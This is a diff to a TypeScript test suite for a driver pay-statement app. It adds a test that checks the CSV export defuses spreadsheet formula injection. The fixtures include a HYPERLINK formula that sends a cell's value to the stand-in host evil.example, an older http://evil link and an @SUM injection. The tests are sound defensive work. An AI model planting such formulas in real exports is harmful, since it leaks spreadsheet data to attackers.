@@ -7,7 +7,8 @@ import type { Page } from '../../../domain/page';
 import type { PayStatement, PayStatementSummary } from '../../../domain/pay-statement';
 import { zonedLocalToIso } from '../../../domain/zoned-time';
 import { payAdjustments, payStatementLines, payStatements } from '../../db/schema';
-import { makeJob } from '../../demo/factories';
+import { makeDriver, makeJob } from '../../demo/factories';
+import { payStatementOf } from '../../test/pay-statement';
 import { readBackPdf } from '../../test/pdf-text';
 import { signedIn, type SignedIn } from '../../test/sign-in';
 import { createTestApp, type TestApp } from '../../test/test-app';
@@ -275,5 +276,21 @@ describe('the PDF and the CSV', () => {
     expect(rows.find((r) => r.Kind === 'Total')?.Amount).toBe(s.total);
     // The formula is neutralised: the cell starts with a quote, not "=".
     expect(rows.find((r) => r.Kind === 'Adjustment')?.Description).toBe(`'=HYPERLINK("http://evil")`);
+  });
+
+  it("CSV: a formula in the driver's name, even behind a line break, is defused and the rest of the name kept (docs/decisions/079-one-csv-formula-guard.md)", async () => {
+    // Stored as given: the forms trim a name, but the file must not count on how a row came in.
+    const fullName = '\n=HYPERLINK("https://evil.example/?q="&C2,"Open chart\nrecord")';
+    const driver = await makeDriver(t.database.db, { status: 'approved', fullName });
+    const id = await payStatementOf(t.app, t.database.db, admin.cookie!, driver.id);
+    const adjusted = await call('POST', `/api/pay-statements/${id}/adjustments`, { description: '@SUM(A1:A9)\nfuel advance', amount: '-25.00' });
+    expect(adjusted.statusCode, adjusted.body).toBe(201);
+    const csv = await call('GET', `/api/pay-statements/${id}/statement.csv`);
+    expect(csv.statusCode).toBe(200);
+    const rows = Papa.parse<Record<string, string>>(csv.body, { header: true, delimiter: ',', newline: '\r\n' }).data;
+    expect(rows.map((r) => r.Kind)).toEqual(['Trip', 'Adjustment', 'Total']);
+    for (const row of rows) expect(row.Driver).toBe(`'${fullName}`);
+    // The description is defused; the negative amount stays a number.
+    expect(rows[1]).toMatchObject({ Description: "'@SUM(A1:A9)\nfuel advance", Amount: '-25.00' });
   });
 });
